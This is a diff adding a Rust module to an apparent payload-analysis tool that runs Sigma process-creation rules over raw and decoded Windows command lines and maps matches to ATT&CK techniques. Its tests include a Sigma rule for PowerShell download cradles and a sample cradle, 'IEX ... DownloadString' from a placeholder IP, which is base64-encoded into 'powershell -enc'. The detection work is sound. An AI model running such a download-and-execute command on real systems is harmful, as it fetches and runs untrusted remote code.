@@ -1,0 +1,228 @@
+//! Sigma process-creation rules over a payload: the command line as submitted and its
+//! decoded form are each turned into the process-creation event a Windows host would log
+//! for it (Sysmon event 1: `Image`, `OriginalFileName`, `CommandLine`), and the rules that
+//! match join the verdict's patterns with their ATT&CK techniques. Running the rules on the
+//! decoded form is the point: a rule written for `DownloadString` never sees it inside
+//! `-EncodedCommand`.
+//!
+//! Only cmd and PowerShell texts become events (the rules' `product: windows`); Linux
+//! process-creation rules need the auditd mapping first.
+
+use std::borrow::Cow;
+use std::cell::RefCell;
+
+use serde_json::{Value, json};
+use warden_payload::{Analysed, PatternFound, PatternSource, Shell};
+use warden_sigma::{Level, RuleSet, Scratch};
+
+/// The rules, and how much a match of each level weighs in the signature view.
+pub struct PayloadRules {
+    set: RuleSet,
+}
+
+thread_local! {
+    static SCRATCH: RefCell<(Scratch, Vec<u32>)> = RefCell::new((Scratch::default(), Vec::new()));
+}
+
+impl PayloadRules {
+    pub fn new(set: RuleSet) -> PayloadRules {
+        PayloadRules { set }
+    }
+
+    /// Rules loaded (all categories; only process-creation ones can match).
+    pub fn rules(&self) -> usize {
+        self.set.detection_rules()
+    }
+
+    fn matches(&self, doc: &Value) -> Vec<u32> {
+        SCRATCH.with(|s| {
+            let (scratch, hits) = &mut *s.borrow_mut();
+            let ev = self.set.event(doc);
+            self.set.matches(&ev, scratch, hits);
+            hits.clone()
+        })
+    }
+}
+
+/// A level's weight: how strongly one rule match alone points at an attack.
+fn weight(level: Level) -> f32 {
+    match level {
+        Level::Critical => 0.9,
+        Level::High => 0.75,
+        Level::Medium => 0.5,
+        Level::Low => 0.25,
+        Level::Informational => 0.1,
+    }
+}
+
+/// The process-creation event of a command line: the program it starts and the line.
+pub fn process_event(text: &str, shell: Shell, exe: Option<&str>) -> Option<Value> {
+    let (image, line) = match shell {
+        Shell::Powershell => {
+            let ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
+            let lower = text.trim_start().to_ascii_lowercase();
+            if lower.starts_with("powershell") || lower.starts_with("pwsh") {
+                (ps.to_string(), text.to_string())
+            } else {
+                (ps.to_string(), format!("powershell.exe -Command {text}"))
+            }
+        }
+        Shell::Cmd => {
+            let exe = exe.filter(|e| !e.is_empty() && !e.contains(['\\', '/', ':']))?;
+            (format!(r"C:\Windows\System32\{exe}.exe"), text.to_string())
+        }
+        Shell::Sh | Shell::Bash => return None,
+    };
+    let file = image.rsplit('\\').next().unwrap_or("").to_string();
+    Some(json!({
+        "Channel": "Microsoft-Windows-Sysmon/Operational",
+        "EventID": 1,
+        "Image": image,
+        "OriginalFileName": file,
+        "CommandLine": line,
+        "ParentImage": r"C:\Windows\explorer.exe",
+    }))
+}
+
+impl PatternSource for PayloadRules {
+    fn patterns(&self, a: &Analysed) -> Vec<PatternFound> {
+        let last = a.decoded.layers.len().saturating_sub(1);
+        let mut seen: Vec<u32> = Vec::new();
+        let mut out = Vec::new();
+        for (layer, shell) in [(0, a.shell), (last, a.decoded.shell.unwrap_or(a.shell))] {
+            if layer == last && layer == 0 && !out.is_empty() {
+                break;
+            }
+            let Some(l) = a.decoded.layers.get(layer) else {
+                continue;
+            };
+            let exe: Option<String> = if layer == last {
+                a.tokens.commands.first().map(|c| c.exe.clone())
+            } else {
+                None
+            };
+            let exe = exe.or_else(|| first_word(&l.text));
+            let Some(doc) = process_event(&l.text, shell, exe.as_deref()) else {
+                continue;
+            };
+            for r in self.matches(&doc) {
+                if seen.contains(&r) {
+                    continue;
+                }
+                seen.push(r);
+                let Some(info) = self.set.rule(r) else {
+                    continue;
+                };
+                let m = &info.meta;
+                let attack: Vec<Cow<'static, str>> = warden_event::attack_from_tags(&m.tags)
+                    .into_iter()
+                    .filter(|t| {
+                        t.starts_with('T') && t[1..].starts_with(|c: char| c.is_ascii_digit())
+                    })
+                    .map(Cow::Owned)
+                    .collect();
+                out.push(PatternFound {
+                    id: format!("sigma:{}", m.id.as_deref().unwrap_or(&m.title)),
+                    name: format!("Sigma: {}", m.title),
+                    attack,
+                    weight: weight(m.level),
+                    evidence: m
+                        .file
+                        .as_ref()
+                        .and_then(|f| f.file_name())
+                        .map_or_else(|| m.title.clone(), |f| f.to_string_lossy().into_owned()),
+                    layer,
+                });
+            }
+            if last == 0 {
+                break;
+            }
+        }
+        out
+    }
+}
+
+fn first_word(text: &str) -> Option<String> {
+    let w = text.split_whitespace().next()?;
+    Some(warden_payload::tokens::program_name(
+        &w.to_ascii_lowercase(),
+    ))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::sync::Arc;
+    use warden_payload::{Analyzer, VerdictConfig};
+    use warden_sigma::{Mapping, RuleSetBuilder};
+
+    const RULE: &str = r"
+title: PowerShell download cradle
+id: 00000000-0000-0000-0000-00000000c0de
+status: test
+logsource:
+  category: process_creation
+  product: windows
+detection:
+  selection:
+    Image|endswith: '\powershell.exe'
+    CommandLine|contains: 'DownloadString'
+  condition: selection
+level: high
+tags:
+  - attack.execution
+  - attack.t1059.001
+";
+
+    fn rules() -> Arc<PayloadRules> {
+        let dir = std::env::temp_dir().join(format!("warden-payload-rules-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        std::fs::write(dir.join("cradle.yml"), RULE).unwrap();
+        let mut b = RuleSetBuilder::new(Mapping::builtin());
+        b.add_path(&dir);
+        let set = b.build();
+        std::fs::remove_dir_all(&dir).ok();
+        assert_eq!(
+            set.detection_rules(),
+            1,
+            "{:?}",
+            set.skipped()
+                .iter()
+                .map(|s| s.error.to_string())
+                .collect::<Vec<_>>()
+        );
+        Arc::new(PayloadRules::new(set))
+    }
+
+    #[test]
+    fn a_rule_sees_the_decoded_command_the_original_hides() {
+        let a = Analyzer::new(None, VerdictConfig::default()).with_source(rules());
+        let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.1/a')";
+        let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+        let text = format!(
+            "powershell -enc {}",
+            warden_payload::deobf::codec::to_base64(&utf16)
+        );
+        let v = a.analyze(&text, None);
+        let hit = v
+            .patterns
+            .iter()
+            .find(|p| p.id.starts_with("sigma:"))
+            .expect("the rule matched");
+        assert_eq!(hit.layer, 1, "found on the decoded layer, not the original");
+        assert!(hit.attack.iter().any(|t| t == "T1059.001"));
+        assert!(v.attack.iter().any(|t| t == "T1059.001"));
+        // A clean command does not match.
+        let v = a.analyze("Get-ChildItem C:\\Users", Some(Shell::Powershell));
+        assert!(!v.patterns.iter().any(|p| p.id.starts_with("sigma:")));
+    }
+
+    #[test]
+    fn only_windows_shells_become_process_events() {
+        assert!(process_event("ls -la", Shell::Sh, Some("ls")).is_none());
+        let e = process_event("whoami /all", Shell::Cmd, Some("whoami")).unwrap();
+        assert_eq!(e["Image"], r"C:\Windows\System32\whoami.exe");
+        let e = process_event("Get-Process", Shell::Powershell, None).unwrap();
+        assert_eq!(e["CommandLine"], "powershell.exe -Command Get-Process");
+    }
+}
